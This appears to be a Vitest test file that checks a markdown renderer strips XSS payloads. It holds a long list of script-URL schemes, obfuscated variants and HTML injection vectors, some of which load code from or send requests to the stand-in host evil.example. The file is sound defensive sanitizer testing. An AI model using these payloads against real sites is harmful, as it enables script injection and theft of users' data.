import { expect, test } from 'vitest';
import { renderScreen } from '../../../test-support/render-screen.tsx';
import { MarkdownView } from './markdown-view.tsx';

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java&#115;cript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#1;javascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.com/1',
  'filesystem:https://example.com/1',
  'view-source:https://example.com',
  'livescript:alert(1)',
  'ws://example.com',
];

const MARKUP = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<p id=content name=content>clobber</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<x contenteditable onblur=alert(1) tabindex=1>x</x>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
];

const TEXTS = [
  ...SCHEMES.flatMap((address) => [
    `[x](<${address}>)`,
    `![x](<${address}>)`,
    `<${address}>`,
    `[x][r]\n\n[r]: <${address}>`,
    `| a |\n|---|\n| [x](<${address}>) |`,
  ]),
  ...MARKUP.flatMap((markup) => [
    markup,
    `a ${markup} b`,
    `> - ${markup}`,
    `==${markup}==`,
    `# ${markup}`,
    `| ${markup} |\n|---|`,
  ]),
  '[x](https://example.com "onmouseover=alert(1)")',
  '![x](/api/uploads/a.png" onerror="alert(1))',
  '![x](/api/uploads/a.png "\\" onerror=alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onload=alert(1)\ncode\n```',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
  '- [x](javascript:alert(1))\n- [ ] <img src=x onerror=alert(1)>',
];

const HARMLESS = new Set(
  'div p h2 h3 h4 h5 h6 a span img mark code pre blockquote ul ol li hr br em strong del sup table thead tbody tr th td input section'
    .split(' ')
    .map((name) => name.toUpperCase()),
);

test.for(TEXTS)('the text %j runs no script and sends no request', async (text) => {
  const { container } = await renderScreen(<MarkdownView text={text} />);
  for (const element of container.querySelectorAll('[class*=text] *')) {
    expect(HARMLESS, element.outerHTML).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(name, element.outerHTML).not.toMatch(/^on|^srcset$|^formaction$|^xlink/);
      if (name === 'style') expect(value).toMatch(/^text-align: \w+;$/);
    }
    const src = element.getAttribute('src');
    if (src !== null) expect(src).toMatch(/^\/api\/uploads\/[\w.-]+$/);
    if (element instanceof HTMLAnchorElement) expect(element.protocol).toMatch(/^(?:https?|mailto):$/);
  }
  expect(document.getElementById('content')).toBeNull();
});
